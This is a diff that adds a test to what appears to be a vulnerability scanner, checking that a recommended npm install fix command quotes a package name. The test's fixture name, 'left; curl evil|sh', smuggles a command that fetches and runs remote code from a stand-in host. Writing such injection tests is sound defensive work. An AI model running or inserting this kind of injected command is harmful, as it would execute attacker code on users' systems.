@@ -319,6 +319,15 @@ def test_fixes_are_told_nearest_first(database: Made) -> None:
     assert "'django>=3.0.4'" in both.recommended_fix.steps[0]
 
 
+def test_a_command_that_people_copy_runs_nothing_of_a_target(database: Made) -> None:
+    name = "left; curl evil|sh"
+    (one,) = ask(
+        database({"npm": [record("GHSA-a", "npm", name, fixed="1.0.0")]}), [plain("npm", name, "0.9")]
+    ).findings
+    assert one.recommended_fix is not None
+    assert one.recommended_fix.steps[0] == "npm install 'left; curl evil|sh@1.0.0'"
+
+
 def test_an_erratum_is_told_per_flaw(database: Made) -> None:
     items = [
         record("ALSA-2024:1", "AlmaLinux:9", "firefox", fixed="2-1.el9", related=["CVE-2024-0001", "CVE-2024-0002"]),
